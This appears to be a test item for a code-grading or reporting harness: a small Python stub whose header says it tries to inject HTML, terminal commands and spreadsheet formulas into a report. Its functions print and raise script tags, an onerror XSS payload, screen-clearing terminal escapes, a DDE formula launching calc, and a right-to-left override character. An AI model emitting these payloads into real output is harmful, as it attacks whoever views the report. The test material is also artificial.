# /// attack
# lines = [9]
# tries = "Prints and raises HTML, terminal commands and spreadsheet formulas for whoever reads the report."
# on = "stub"
# score = 0
# outcomes = { "1.1" = "error in the submission" }
# ///
def step(z):
    print(f"<script>{MARK}</script><img src=x onerror=alert(1)>\x1b[2J\x1b]0;{MARK}\x07=cmd|'/c calc'!A1\u202e")
    raise ValueError(f"<script>{MARK}</script>\x1b[31m")


def neuron(x, w, b, f):
    return f"<script>{MARK}</script>\x1b[2J"
